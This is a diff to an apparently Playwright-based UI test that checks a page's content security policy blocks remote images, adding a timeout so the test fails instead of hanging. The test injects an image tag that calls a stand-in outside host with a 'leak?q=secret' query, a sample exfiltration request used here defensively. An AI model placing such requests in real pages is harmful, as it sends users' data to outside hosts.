@@ -55,6 +55,7 @@ def test_the_page_loads_no_remote_image(stack: UiStack, page: Page) -> None:
     assert local == [], local
     blocked = page.evaluate("""() => new Promise(resolve => {
         document.addEventListener("securitypolicyviolation", event => resolve(event.violatedDirective));
+        setTimeout(() => resolve("not blocked"), 20000);  // without the policy, fail rather than hang
         const image = document.createElement("img");
         image.src = "http://198.51.100.1/leak?q=secret";
         document.body.appendChild(image);
